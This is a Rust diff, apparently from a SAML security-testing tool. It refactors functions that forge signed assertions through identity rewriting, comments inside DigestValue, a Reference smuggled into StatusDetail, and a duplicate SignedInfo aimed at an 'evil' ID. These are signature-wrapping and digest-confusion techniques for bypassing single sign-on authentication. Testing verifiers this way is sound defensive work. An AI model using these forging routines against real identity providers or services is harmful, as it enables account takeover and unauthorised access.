@@ -21,7 +21,7 @@ fn with_forged_digest(
     let sig = p.need_assertion_sig()?;
     let method = seed_digest_method(sig);
     let (mut edits, swap) =
-        identity::rewrite_edits(&doc, p.assertion.range(), &identity::target_of);
+        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
     edits.extend(extra(&p)?);
     let xml = splice(doc.src, edits);
     let digest = reference_digest(&xml, &id(&p), method)?;
@@ -39,7 +39,9 @@ pub fn comment_in_digest_value(f: &Forge) -> Result<Forged, Skip> {
                     s.descendants()
                         .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
                 })
-                .ok_or_else(|| Skip("the Assertion's Signature has no DigestValue".into()))?;
+                .ok_or_else(|| {
+                    Skip::NotApplicable("the Assertion's Signature has no DigestValue".into())
+                })?;
             Ok(vec![insert(
                 after_start_tag(p.doc.src, dv),
                 format!("<!--{PLACEHOLDER}-->"),
@@ -56,7 +58,7 @@ pub fn digest_value_smuggled(f: &Forge) -> Result<Forged, Skip> {
         f,
         &|p| {
             let status = child(p.root, PROTOCOL_NS, "Status")
-                .ok_or_else(|| Skip("the seed has no Status".into()))?;
+                .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
             let detail = format!(
                 "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"#{}\"><ds:DigestValue>{PLACEHOLDER}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
                 p.assertion_id()
@@ -74,11 +76,11 @@ pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
         f,
         &|p| {
             let sig = p.need_assertion_sig()?;
-            let si = signed_info(sig).ok_or_else(|| Skip("no SignedInfo".into()))?;
+            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
             let evil = evil_id(p.assertion_id());
-            let second = second_signed_info(p.doc.outer(si), p.assertion_id(), &evil)?;
+            let second = second_signed_info(p.doc, si, &evil)?;
             let id = crate::bytes::attr_value(p.assertion, "ID")
-                .ok_or_else(|| Skip("the Assertion has no ID".into()))?;
+                .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
             Ok(vec![
                 (id, evil),
                 insert(si.range().end, second),
@@ -93,22 +95,24 @@ pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
 }
 
 /// A copy of SignedInfo whose Reference points at `#evil`, its digest the placeholder.
-fn second_signed_info(original: &str, id: &str, evil: &str) -> Result<String, Skip> {
-    let wrapped = crate::bytes::wrap_namespaces(original);
-    let doc = Doc::parse(&wrapped)?;
-    let dv = doc
-        .tree
+fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<String, Skip> {
+    let reference = si
         .descendants()
-        .find(|n| n.is_element() && n.tag_name().name() == "DigestValue")
-        .ok_or_else(|| Skip("SignedInfo has no DigestValue".into()))?;
-    let edited = splice(
-        &wrapped,
-        vec![(
-            after_start_tag(&wrapped, dv)..before_end_tag(&wrapped, dv),
+        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
+        .ok_or_else(|| Skip::NotApplicable("SignedInfo has no Reference".into()))?;
+    let uri = crate::bytes::attr_value(reference, "URI")
+        .ok_or_else(|| Skip::NotApplicable("the Reference has no URI".into()))?;
+    let dv = reference
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
+        .ok_or_else(|| Skip::NotApplicable("SignedInfo has no DigestValue".into()))?;
+    let open = after_start_tag(doc.src, dv);
+    let edits = vec![
+        (uri, format!("#{evil}")),
+        (
+            open..before_end_tag(doc.src, dv).max(open),
             PLACEHOLDER.into(),
-        )],
-    );
-    let start = crate::bytes::wrap_namespaces("").len() - "</w>".len();
-    let inner = &edited[start..edited.len() - "</w>".len()];
-    Ok(inner.replace(&format!("URI=\"#{id}\""), &format!("URI=\"#{evil}\"")))
+        ),
+    ];
+    Ok(crate::family::cut(doc.src, si.range(), edits))
 }
